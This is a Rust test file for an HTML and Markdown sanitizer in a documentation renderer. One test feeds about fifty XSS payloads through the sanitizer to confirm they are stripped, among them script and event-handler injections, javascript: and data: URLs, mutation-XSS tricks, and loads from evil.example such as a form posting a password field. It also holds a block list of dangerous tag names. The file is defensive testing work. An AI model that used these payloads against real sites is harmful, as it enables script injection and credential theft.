//! HTML that people write: useful, careless and hostile.

use super::{html, read, rendered};

fn block(text: &str) -> String {
    html(text).trim().to_owned()
}

#[test]
fn html_of_real_runbooks_stays() {
    for text in [
        "<details open=\"\">\n<summary>More</summary>\n</details>",
        "<p>Press <kbd>Ctrl</kbd>+<kbd>C</kbd><br>twice</p>",
        "<p align=\"center\"><b>x</b> <sub>y</sub></p>",
        "<table>\n<tbody><tr><td colspan=\"2\">a &amp; b</td></tr></tbody></table>",
    ] {
        assert_eq!(block(text), text);
    }
}

#[test]
fn markdown_inside_is_markdown() {
    assert_eq!(
        block("<details>\n<summary>More</summary>\n\n- **a**\n\n```\nb\n```\n\n</details>\n\nAfter"),
        "<details>\n<summary>More</summary>\n<ul>\n<li><strong>a</strong></li>\n</ul>\n\
         <div class=\"code\"><pre tabindex=\"0\"><code>b\n</code></pre></div>\n</details>\n<p>After</p>"
    );
}

#[test]
fn placeholders_stay_on_the_page() {
    assert_eq!(
        block("Ask <team> and restart <Pod-Name> at <time> by </x>"),
        "<p>Ask &lt;team&gt; and restart &lt;Pod-Name&gt; at &lt;time&gt; by &lt;/x&gt;</p>"
    );
    let page = rendered("## Restart <service>\n\nOn <node>.", false);
    assert_eq!(page.sections[0].heading, "Restart <service>");
    assert_eq!(page.sections[0].text, "On <node>.");
}

#[test]
fn links_and_images_are_resolved() {
    assert_eq!(
        block(
            "<p><a href='b.md' onclick=x class=y>a</a> <a HREF=\"https://c.example\">c</a> <a href=dead.md>d</a> <a href='java&#x73;cript:e'>e</a></p>"
        ),
        "<p><a href=\"b.md\">a</a> <a class=\"external\" href=\"https://c.example\" rel=\"noreferrer\">c</a> \
         <a class=\"dead\" title=\"leads nowhere\">d</a> <a>e</a></p>"
    );
    assert_eq!(
        block("<img src=a.png width=10 onerror=x> <img src=\"https://b.example/c.png\" alt=\"c\"> <img>"),
        "<p><img src=\"a.png\" alt=\"\" width=\"10\" loading=\"lazy\"> \
         <a class=\"external\" href=\"https://b.example/c.png\" rel=\"noreferrer\">c</a> </p>"
    );
}

#[test]
fn elements_stay_inside_their_parent() {
    for (text, expected) in [
        ("- a <b>b\n- c", "<ul>\n<li>a <b>b</b></li>\n<li>c</li>\n</ul>"),
        ("<a name=\"x\"/>a\n\nb", "<p><a name=\"x\"></a>a</p>\n<p>b</p>"),
        ("a </div></p></section></x> b", "<p>a &lt;/x&gt; b</p>"),
        ("<div>\n\na", "<div>\n<p>a</p>\n</div>"),
        ("> <div>\n\na", "<blockquote>\n<div>\n</div></blockquote>\n<p>a</p>"),
        ("<ul><li>a<li>b</ul>", "<ul><li>a</li><li>b</li></ul>"),
        ("<table>\n\na\n\n<tr><td>b", "<table>\n</table><p>a</p>\nb"),
        ("<div title=\"\n\na", "&lt;div title=\"\n<p>a</p>"),
        ("<b><i>a</b>b</i>", "<p><b><i>a</i></b>b</p>"),
        ("[<b>a](b.md) c", "<p><a href=\"b.md\"><b>a</b></a> c</p>"),
        ("[a <a href=c.md>b</a>](d.md)", "<p><a href=\"d.md\">a b</a></p>"),
    ] {
        assert_eq!(block(text), expected, "{text}");
    }
}

#[test]
fn nothing_dangerous_gets_through() {
    for attack in [
        "<script>alert(1)</script>",
        "<SCRIPT SRC=//evil.example/x></SCRIPT>",
        "<scr<script>ipt>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "<img src=\"x\" onerror=\"alert(1)\">",
        "<img/src=x/onerror=alert(1)>",
        "<svg onload=alert(1)><path/></svg>",
        "<svg><script>alert(1)</script></svg>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
        "<iframe src=\"javascript:alert(1)\"></iframe>",
        "<object data=\"javascript:alert(1)\">",
        "<embed src=//evil.example>",
        "<form action=//evil.example><button formaction=x>b</button><input name=password></form>",
        "<meta http-equiv=refresh content=\"0;url=//evil.example\">",
        "<base href=//evil.example>",
        "<link rel=stylesheet href=//evil.example/x.css>",
        "<style>@import '//evil.example'</style>",
        "<p style=\"background:url(//evil.example)\">a</p>",
        "<body onload=alert(1)>",
        "<a href=\"javascript:alert(1)\">a</a>",
        "<a href=\" &#1; JaVaScRiPt:alert(1)\">a</a>",
        "<a href=\"java\tscript:alert(1)\">a</a>",
        "<a href=\"javascript&colon;alert(1)\">a</a>",
        "<a href=\"data:text/html,<script>alert(1)</script>\">a</a>",
        "<a href=vbscript:x>a</a>",
        "[a](javascript:alert(1))",
        "[a](&#106;avascript:alert(1))",
        "[a](<java\u{0}script:alert(1)>)",
        "[a](\u{1}javascript:alert(1))",
        "[a](DATA:text/html,x)",
        "[a](file:///etc/passwd)",
        "![a](data:image/svg+xml,<svg/onload=alert(1)>)",
        "![a](//evil.example/x.png)",
        "<img src=//evil.example/x.png>",
        "<img src=\"\\\\evil.example/x.png\">",
        "<img srcset=//evil.example/x.png>",
        "<picture><source srcset=//evil.example/x><img src=a.png></picture>",
        "<video src=//evil.example poster=//evil.example>",
        "<audio autoplay src=//evil.example>",
        "<table background=//evil.example><tr><td background=//evil.example>",
        "<a href=\"x\" ping=\"//evil.example\" target=_blank>a</a>",
        "<input type=image src=//evil.example>",
        "<!--><img src=x onerror=alert(1)>-->",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
        "<textarea></textarea><img src=x onerror=alert(1)>",
        "<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\">",
        "<details ontoggle=alert(1) open>",
        "## a {onclick=alert(1) style=x}",
        "```\"onmouseover=alert(1)\ncode\n```",
        "[a](b.md \"\\\" onclick=alert(1) x=\\\"\")",
        "[^\"onclick=x]\n\n[^\"onclick=x]: a",
        "<div class=\"alert\" role=\"alert\" data-x=y>a</div>",
        "<b \"onclick=alert(1)>a",
    ] {
        let html = html(attack);
        let mut rest = html.as_str();
        while let Some((_, tag)) = rest.split_once('<') {
            let (tag, after) = tag.split_once('>').expect("every tag is closed");
            rest = after;
            let tag = without_values(tag);
            for bad in [
                " on",
                "script",
                "style",
                "iframe",
                "object",
                "embed",
                "form",
                "button",
                "meta",
                "base",
                "link",
                "svg",
                "math",
                "srcset",
                "ping",
                "target",
                "background",
                "poster",
                "video",
                "audio",
                "source",
                "noscript",
                "textarea",
                "xmp",
            ] {
                assert!(!tag.contains(bad), "{attack} gave {html}");
            }
        }
        for bad in
            ["=\"javascript", "=\"data:", "=\"vbscript", "=\"file:", "src=\"//", "src=\"\\", "src=\"http"]
        {
            assert!(!html.to_lowercase().contains(bad), "{attack} gave {html}");
        }
    }
}

/// A tag without the values of its attributes, which may be anything.
fn without_values(tag: &str) -> String {
    tag.split('"').step_by(2).collect::<Vec<_>>().join("\"").to_lowercase()
}

#[test]
fn scripts_leave_no_text_and_comments_nothing() {
    assert_eq!(block("<div><script>var a;</script><style>b</style>c<!-- d --></div>"), "<div>c</div>");
    assert_eq!(block("<!-- a -->\n\nb"), "<p>b</p>");
}

#[test]
fn headings_have_ids() {
    let text = "## Setup\n\n<h2>Setup</h2>\n\n<h3 align=\"center\">\n  Look <b>twice</b>\n</h3>\n\n\
                <h2 id=\"own\">Other</h2>\n\n<a name=\"again\"></a>\n<h2>Again</h2>\n";
    let markdown = read(text);
    assert_eq!(markdown.raw_ids, ["", "look-twice", "", ""]);
    let page = html(text);
    for part in [
        "<h2>Setup</h2>",
        "<h3 align=\"center\" id=\"look-twice\">",
        "<h2 id=\"own\">Other</h2>",
        "<h2>Again</h2>",
    ] {
        assert!(page.contains(part), "{part} in {page}");
    }
}
